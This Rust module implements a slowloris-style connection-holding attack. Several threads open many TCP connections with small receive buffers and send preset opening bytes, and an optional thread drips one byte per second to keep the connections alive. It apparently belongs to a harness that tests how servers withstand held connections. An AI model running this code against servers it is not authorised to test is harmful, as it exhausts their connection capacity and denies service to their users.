//! Connections that are opened to be held: what each kind sends, and how it goes on.

use std::io::{self, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

/// Threads that open connections, and how long each pauses after one: 800 a second together. What is tried is what comes of
/// connections that stay, and not how many requests a second a server answers.
const OPENERS: usize = 4;
const PAUSE: Duration = Duration::from_millis(5);

/// How little a client's system takes in advance.
const RECEIVE_BUFFER: usize = 4096;

/// How often a dripping client sends a byte.
const DRIP: Duration = Duration::from_secs(1);

/// One address, and what the connections to it send at their begin: the first of these, the second, and so on in turn.
#[derive(Debug, Clone)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) begins: Vec<Vec<u8>>,
}

/// Connections under way, held until this is dropped.
pub(crate) struct Attack {
    held: Vec<Arc<Mutex<Vec<TcpStream>>>>,
    over: Arc<AtomicBool>,
    drip: Option<JoinHandle<()>>,
}

impl Attack {
    /// Opens `count` connections to the target; `drips` says whether a byte follows each second. Returns once all stand.
    pub(crate) fn begin(target: &Target, count: usize, drips: bool) -> Self {
        let over = Arc::new(AtomicBool::new(false));
        let mut held = Vec::new();
        let mut openers = Vec::new();
        for number in 0..OPENERS {
            let mine: Arc<Mutex<Vec<TcpStream>>> = Arc::default();
            held.push(Arc::clone(&mine));
            let target = target.clone();
            openers.push(thread::spawn(move || {
                for index in (0..count).filter(|index| index % OPENERS == number) {
                    let begin = &target.begins[index / OPENERS % target.begins.len()];
                    // A server that refuses one has done what it can.
                    if let Ok(stream) = open(target.address, begin) {
                        mine.lock().unwrap().push(stream);
                    }
                    thread::sleep(PAUSE);
                }
            }));
        }
        for opener in openers {
            opener.join().unwrap();
        }
        let drip = drips.then(|| {
            let (held, over) = (held.clone(), Arc::clone(&over));
            thread::spawn(move || drip(&held, &over))
        });
        Self { held, over, drip }
    }
}

impl Attack {
    /// Connections that came about.
    pub(crate) fn opened(&self) -> usize {
        self.held.iter().map(|streams| streams.lock().unwrap().len()).sum()
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.over.store(true, Ordering::Relaxed);
        if let Some(drip) = self.drip.take() {
            let _ = drip.join();
        }
        self.held.clear();
    }
}

fn open(address: SocketAddr, begin: &[u8]) -> io::Result<TcpStream> {
    let socket = rustix::net::socket(
        if address.is_ipv4() { rustix::net::AddressFamily::INET } else { rustix::net::AddressFamily::INET6 },
        rustix::net::SocketType::STREAM,
        None,
    )?;
    // Before connecting, so that the window is small from the first.
    rustix::net::sockopt::set_socket_recv_buffer_size(&socket, RECEIVE_BUFFER)?;
    rustix::net::connect(&socket, &address)?;
    let mut stream = TcpStream::from(socket);
    stream.set_write_timeout(Some(Duration::from_secs(5)))?;
    stream.write_all(begin)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

fn drip(held: &[Arc<Mutex<Vec<TcpStream>>>], over: &AtomicBool) {
    while !over.load(Ordering::Relaxed) {
        let next = Instant::now() + DRIP;
        for streams in held {
            for stream in streams.lock().unwrap().iter_mut() {
                // It may have been cut off, which is what is wanted.
                let _ = stream.write(b"a");
            }
        }
        while !over.load(Ordering::Relaxed) && Instant::now() < next {
            thread::sleep(Duration::from_millis(20));
        }
    }
}
